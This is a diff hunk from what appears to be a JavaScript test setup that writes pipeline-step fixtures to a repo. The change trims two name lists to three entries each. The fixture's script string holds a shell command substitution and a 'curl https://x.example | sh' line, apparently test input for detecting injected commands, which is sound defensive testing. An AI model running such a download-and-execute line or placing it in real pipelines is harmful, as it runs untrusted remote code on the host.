@@ -36,7 +36,7 @@ beforeAll(() => {
     write(
       `repo/${file}`,
       text(
-        [...MARKUP, ...ACTING_NAMES].map((name) => ({
+        [...MARKUP.slice(0, 3), ...ACTING_NAMES.slice(0, 3)].map((name) => ({
           name,
           image: name,
           steps: [{ script: `${touches('script')}; $(${touches('substitution')}); curl https://x.example | sh`, env: [[name, name]] }],
